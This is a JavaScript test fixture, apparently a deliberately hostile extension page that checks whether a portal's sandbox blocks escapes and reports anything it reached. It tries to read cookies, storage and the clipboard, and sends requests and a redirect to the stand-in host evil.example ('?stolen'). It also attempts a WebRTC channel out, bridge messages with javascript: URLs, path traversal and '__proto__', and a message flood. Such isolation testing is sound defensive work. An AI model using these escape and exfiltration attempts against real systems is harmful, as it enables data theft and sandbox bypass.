// Tries whatever a page of an extension must not be able to do, and reports what it reached.
'use strict';

const SECONDS = 3;
const reached = {};
const tried = [];

const later = millis => new Promise(resolve => setTimeout(resolve, millis));

const handed = new Promise(resolve => {
  addEventListener('message', event => {
    if (event.ports.length === 1) {
      resolve(event.ports[0]);
    }
  }, { once: true });
});

let last = 0;
const answers = new Map();

async function ask(question) {
  const port = await handed;
  const id = ++last;
  const answer = new Promise(resolve => answers.set(id, resolve));
  port.postMessage(JSON.stringify({ id, ...question }));
  return answer;
}

/** Notes what comes of a try, when anything does. */
async function attempt(name, work) {
  tried.push(name);
  try {
    const result = await Promise.race([work(), later(SECONDS * 1000)]);
    if (result !== undefined && result !== null && result !== false) {
      reached[name] = String(result);
    }
  } catch {
    // As it should be.
  }
}

/** Whether an element that loads something from elsewhere did. */
function loads(tag, attributes, append = true) {
  return new Promise((resolve, reject) => {
    const element = Object.assign(document.createElement(tag), attributes);
    element.onload = () => resolve(`loaded ${attributes.src ?? attributes.href ?? attributes.data}`);
    element.onerror = reject;
    if (append) {
      document.body.append(element);
    }
  });
}

async function refusedByBridge(name, question) {
  await attempt(`bridge: ${name}`, async () => {
    const { result, error } = await ask(question);
    return error ? undefined : JSON.stringify(result);
  });
}

async function report() {
  const port = await handed;
  port.onmessage = ({ data }) => {
    const message = JSON.parse(data);
    answers.get(message.id)?.(message);
  };
  await attempt('window', () => window.open('/portal/account'));
  await attempt('window elsewhere', () => window.open('https://evil.example/'));
  await attempt('parent', () => parent.document.title);
  await attempt('parent by name', () => parent.localStorage);
  await attempt('top', () => { top.location.href = '/portal/account'; return 'went'; });
  await attempt('top by link', () => {
    const link = Object.assign(document.createElement('a'), { href: '/portal/account', target: '_top' });
    document.body.append(link);
    link.click();
  });
  await attempt('cookie', () => document.cookie || 'none, but read');
  await attempt('cookie written', () => { document.cookie = 'a=b'; return 'written'; });
  await attempt('localStorage', () => localStorage.length);
  await attempt('sessionStorage', () => sessionStorage.length);
  await attempt('indexedDB', () => indexedDB.open('x'));
  await attempt('caches', () => caches.keys());
  await attempt('origin', () => (origin === 'null' ? null : origin));
  await attempt('fetch', () => fetch('/api/auth/me'));
  await attempt('fetch with a cookie', () => fetch('/api/auth/me', { credentials: 'include' }));
  await attempt('fetch its own file', () => fetch('hostile.js'));
  await attempt('fetch elsewhere', () => fetch('https://evil.example/', { mode: 'no-cors' }));
  await attempt('XMLHttpRequest', () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open('GET', '/api/auth/me');
    request.onload = () => resolve(request.status);
    request.onerror = reject;
    request.send();
  }));
  await attempt('EventSource', () => new Promise((resolve, reject) => {
    const source = new EventSource('/api/auth/me');
    source.onopen = () => resolve('open');
    source.onerror = reject;
  }));
  await attempt('WebSocket', () => new Promise((resolve, reject) => {
    const socket = new WebSocket(`ws://${location.host}/ws`);
    socket.onopen = () => resolve('open');
    socket.onerror = reject;
  }));
  await attempt('image', () => loads('img', { src: '/api/auth/me' }));
  await attempt('image elsewhere', () => loads('img', { src: 'https://evil.example/x.png' }));
  await attempt('script', () => loads('script', { src: '/api/auth/me' }));
  await attempt('module', () => import('/api/auth/me'));
  await attempt('style', () => loads('link', { rel: 'stylesheet', href: '/api/auth/me' }));
  await attempt('object', () => loads('object', { data: '/api/auth/me' }));
  await attempt('worker', () => new Promise((resolve, reject) => {
    const worker = new Worker('hostile.js');
    worker.onerror = reject;
    worker.onmessage = resolve;
  }));
  await attempt('inline script', () => {
    const script = document.createElement('script');
    script.textContent = 'globalThis.inline = true';
    document.body.append(script);
    return globalThis.inline;
  });
  await attempt('eval', () => new Function('return true')());
  await attempt('form', () => {
    const form = Object.assign(document.createElement('form'), { action: '/api/auth/logout', method: 'post' });
    document.body.append(form);
    form.submit();
  });
  await attempt('geolocation', () => new Promise((resolve, reject) => {
    navigator.geolocation.getCurrentPosition(resolve, reject);
  }));
  await attempt('WebRTC', async () => {
    // Whether anything came of it, is known at the other end.
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: 'turn:${outside}?transport=udp', username: 'stolen', credential: 'none' }],
    });
    connection.createDataChannel('out');
    await connection.setLocalDescription(await connection.createOffer());
    await later(1000);
  });
  await attempt('clipboard', () => navigator.clipboard.readText());
  await attempt('alert', () => { alert('x'); });
  await refusedByBridge('another extension', { invoke: 'directory.contact.search', input: {} });
  await refusedByBridge('a path', { invoke: '../members', input: {} });
  await refusedByBridge('a path of its own', { invoke: 'hostile.thing.get/binding', input: {} });
  await refusedByBridge('a name of every object', { invoke: '__proto__', input: {} });
  await refusedByBridge('no name', { invoke: { key: 'hostile.thing.get' }, input: {} });
  await refusedByBridge('no input', { invoke: 'hostile.thing.get', input: 'all' });
  await refusedByBridge('a request', { fetch: '/api/auth/me', method: 'GET' });
  await refusedByBridge('a script', { open: 'javascript:alert(1)' });
  await refusedByBridge('data', { open: 'data:text/html,<script>alert(1)</script>' });
  await refusedByBridge('a place in the portal', { open: '/portal/account' });
  await refusedByBridge('nothing', {});
  await refusedByBridge('too much', { invoke: 'hostile.thing.get', input: { text: 'x'.repeat(300_000) } });
  port.postMessage('no JSON');
  port.postMessage({ id: 1, invoke: 'hostile.thing.get' });
  port.postMessage('null');
  const { id: ignored, ...own } = await ask({ invoke: 'hostile.thing.get', input: {} });
  const shown = document.getElementById('report');
  shown.textContent = JSON.stringify({ reached, tried, own });
  shown.dataset.done = '';
}

addEventListener('DOMContentLoaded', () => {
  document.getElementById('follow').addEventListener('click', async () => {
    const { result } = await ask({ open: document.getElementById('address').value });
    document.getElementById('went').textContent = `went: ${result}`;
  });
  document.getElementById('flood').addEventListener('click', async () => {
    const port = await handed;
    // Whoever clicked has let go by then.
    await later(100);
    for (let count = 0; count < 20_000; count++) {
      port.postMessage(JSON.stringify({ id: count, invoke: 'hostile.thing.get', input: {} }));
    }
  });
  document.getElementById('leave').addEventListener('click', async () => {
    await later(100);
    location.href = 'https://evil.example/?stolen';
  });
  report();
});
